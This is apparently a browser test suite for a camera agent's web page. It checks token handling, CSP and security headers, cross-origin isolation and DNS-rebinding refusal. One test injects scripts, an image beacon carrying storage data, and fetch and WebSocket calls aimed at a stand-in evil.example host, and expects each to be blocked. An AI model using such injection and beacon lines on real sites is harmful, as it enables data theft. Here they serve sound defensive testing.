// What the page gives away, to whom it talks, and what pages of others can do with the box: in a real browser, which is what
// has to keep the rules.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, describe, test } from 'node:test';

import { AgentProcess, kSmallCamera, withoutAgent } from '../support/agent.mjs';
import { AgentPage, launchChromium, withoutChromium } from './chromium.mjs';

/** Not the one that the program prints at its start. */
const kToken = 'looker';

describe('the page and its secrets', { skip: withoutAgent || withoutChromium }, () => {
    let agent, browser, foreign, foreignUrl;
    const askedOfForeign = [];

    before(async () => {
        browser = await launchChromium(['--host-resolver-rules=MAP *.example 127.0.0.1']);
        agent = await AgentProcess.start({ cameras: [{ ...kSmallCamera, vision: false }], log_level: 'debug' });
        foreign = createServer((request, response) => {
            askedOfForeign.push(request.url);
            response.setHeader('content-type', 'text/html').end('<!doctype html><title>foreign</title>');
        });
        await new Promise((done) => foreign.listen(0, '127.0.0.1', done));
        foreignUrl = `http://evil.example:${foreign.address().port}/`;
    });
    after(async () => {
        await browser?.close();
        foreign?.closeAllConnections();
        foreign?.close();
        await agent?.remove();
    });

    async function openBare(t, url, options = {}) {
        const context = await browser.newContext(options);
        t.after(() => context.close());
        const page = await context.newPage();
        const answer = await page.goto(url);
        return { page, answer };
    }

    test('the page asks nobody but the agent, and its token goes nowhere but into one message', async (t) => {
        const requests = [];
        const sockets = [];
        const said = [];
        const tile = await AgentPage.open(t, browser, 'about:blank');
        const context = tile.page.context();
        context.on('request', (request) => requests.push(request));
        tile.page.on('websocket', (socket) => {
            sockets.push(socket.url());
            socket.on('framesent', ({ payload }) => said.push(payload.toString()));
        });
        await tile.page.goto(`${agent.pageUrl}#token=${kToken}`);
        await tile.plays();
        assert.ok(requests.length > 10, `${requests.length} requests`);
        for (const request of requests) {
            const url = new URL(request.url());
            assert.ok(url.protocol === 'blob:' || url.origin === new URL(agent.pageUrl).origin, url.href);
            assert.ok(!(url.pathname + url.search).includes(kToken), url.href);  // a fragment stays in the browser
            assert.ok(!JSON.stringify(await request.allHeaders()).includes(kToken), 'no header holds it');
            assert.equal(request.postData(), null);
        }
        assert.deepEqual(sockets, [agent.streamUrl]);
        assert.equal(said.filter((text) => text.includes(kToken)).length, 1);
        assert.equal(JSON.parse(said.find((text) => text.includes(kToken))).type, 'auth');
        assert.ok(!agent.log.includes(kToken), 'nor does the agent write it down');
    });

    test('the token is in the storage of this tab and in no other place that lasts', async (t) => {
        const tile = await AgentPage.open(t, browser, `${agent.pageUrl}#token=${kToken}`);
        await tile.plays(3);
        assert.equal(tile.page.url(), agent.pageUrl, 'it left the address bar');
        const kept = await tile.page.evaluate(async () => ({
            session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie, name: window.name, state: history.state,
            databases: await indexedDB.databases(), caches: await caches.keys(),
            workers: (await navigator.serviceWorker.getRegistrations()).length, url: document.URL, global: JSON.stringify(window.edgecam.connection()),
        }));
        assert.deepEqual(kept, { session: { 'edgecam.token': kToken }, local: {}, cookie: '', name: '', state: null, databases: [],
            caches: [], workers: 0, url: agent.pageUrl, global: kept.global });
        assert.ok(!kept.global.includes(kToken));
        assert.ok(!(await tile.page.content()).includes(kToken), 'it is not on the page');
        assert.deepEqual(await tile.page.context().cookies(), []);
        const other = await tile.page.context().newPage();
        await other.goto(agent.pageUrl);
        await other.getByText('Enter the access token').waitFor();
        assert.equal(await other.evaluate(() => sessionStorage.length), 0, 'another tab has none');
    });

    test('every answer carries its policy, which knows neither inline script and style nor other origins', async (t) => {
        const { answer } = await openBare(t, agent.pageUrl);
        const rules = new Map(answer.headers()['content-security-policy'].split(';').map((rule) => {
            const [name, ...values] = rule.trim().split(' ');
            return [name, values];
        }));
        const { host } = new URL(agent.pageUrl);
        assert.deepEqual(rules.get('default-src'), ["'self'"]);
        assert.deepEqual(rules.get('connect-src'), ["'self'", `ws://${host}`, `wss://${host}`]);
        assert.deepEqual(rules.get('frame-ancestors'), ["'none'"]);
        for (const values of rules.values()) {
            for (const value of values) assert.ok(["'self'", "'none'", 'blob:', 'data:', `ws://${host}`, `wss://${host}`].includes(value), value);
        }
        for (const name of ['script-src', 'style-src', 'worker-src']) assert.ok(!rules.has(name), 'the default is in force');
        for (const path of ['', 'main.js', 'style.css', 'healthz', 'metrics', 'nothing']) {
            const { headers } = await fetch(`${agent.pageUrl}${path}`);
            assert.equal(headers.get('x-content-type-options'), 'nosniff', path);
            assert.equal(headers.get('x-frame-options'), 'DENY', path);
            assert.equal(headers.get('referrer-policy'), 'no-referrer', path);
            assert.equal(headers.get('cross-origin-resource-policy'), 'same-origin', path);
            assert.match(headers.get('content-security-policy'), /frame-ancestors 'none'/, path);
            assert.match(headers.get('cache-control'), /^no-(cache|store)$/, path);
            assert.equal(headers.get('set-cookie'), null, path);
        }
        assert.equal((await fetch(`${agent.pageUrl}metrics`)).headers.get('cache-control'), 'no-store');
    });

    test('what somebody slips into the page does not run, and cannot call home', async (t) => {
        const { page } = await openBare(t, agent.pageUrl);
        const before = askedOfForeign.length;
        const outcome = await page.evaluate(async (home) => {
            const blocked = [];
            document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
            const script = document.createElement('script');
            script.textContent = 'window.taken = true';
            document.body.append(script);
            const outer = document.createElement('script');
            outer.src = `${home}evil.js`;
            document.body.append(outer);
            const style = document.createElement('style');
            style.textContent = 'body { display: none }';
            document.body.append(style);
            const image = new Image();
            image.src = `${home}?${sessionStorage.length}`;
            const fetched = await fetch(home, { mode: 'no-cors' }).then(() => 'went', () => 'blocked');
            let socket = 'open';
            try {
                socket = await new Promise((done) => {
                    const one = new WebSocket(home.replace('http', 'ws'));
                    one.onerror = () => done('blocked');
                    one.onopen = () => done('open');
                });
            } catch {
                socket = 'blocked';
            }
            return { taken: window.taken ?? false, display: getComputedStyle(document.body).display, fetched, socket,
                blocked: [...new Set(blocked)].sort() };
        }, foreignUrl);
        assert.deepEqual([outcome.taken, outcome.fetched, outcome.socket], [false, 'blocked', 'blocked']);
        assert.notEqual(outcome.display, 'none');
        assert.deepEqual(outcome.blocked, ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem']);
        assert.equal(askedOfForeign.length, before);
    });

    test('a foreign page with the right token gets no WebSocket, no answer and no frame', async (t) => {
        const { page } = await openBare(t, foreignUrl);
        const outcome = await page.evaluate(async ({ stream, pageUrl, token }) => {
            const heard = [];
            const code = await new Promise((done) => {
                const socket = new WebSocket(stream);
                socket.onopen = () => socket.send(JSON.stringify({ type: 'auth', token }));
                socket.onmessage = ({ data }) => heard.push(data);
                socket.onclose = (event) => done(event.code);
            });
            const read = (path) => fetch(`${pageUrl}${path}`).then(() => 'read', () => 'blocked');
            const frame = document.createElement('iframe');
            frame.src = pageUrl;
            const loaded = new Promise((done) => { frame.onload = done; });
            document.body.append(frame);
            await loaded;
            let framed = 'foreign';
            try {
                framed = frame.contentDocument === null ? 'foreign' : 'own';
            } catch {}
            return { code, heard, read: [await read('metrics'), await read('healthz')], framed };
        }, { stream: agent.streamUrl, pageUrl: agent.pageUrl, token: agent.token });
        assert.deepEqual(outcome, { code: 1006, heard: [], read: ['blocked', 'blocked'], framed: 'foreign' });
        const inner = page.frames().find((frame) => frame !== page.mainFrame());
        assert.equal(await inner.locator('#tiles').count(), 0, 'the page is not in it');
    });

    test('a foreign name that points at the box is refused by every path, also by its own page', async (t) => {
        const rebound = `http://rebound.example:${agent.port}/`;
        // The attacker's page came from his own server under this name, with a policy of its own, and only then the name
        // changed.
        const { page, answer } = await openBare(t, rebound, { bypassCSP: true });
        assert.equal(answer.status(), 403);
        assert.match(await page.locator('body').innerText(), /not in allowed_hosts/);
        const outcome = await page.evaluate(async (token) => {
            const status = async (path) => (await fetch(path, { headers: { authorization: `Bearer ${token}` } })).status;
            const code = await new Promise((done) => {
                const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/v1/stream`);
                socket.onopen = () => done('open');
                socket.onclose = (event) => done(event.code);
            });
            return [await status('metrics'), await status('healthz'), await status('main.js'), code];
        }, agent.token);
        assert.deepEqual(outcome, [403, 403, 403, 1006]);
    });
});
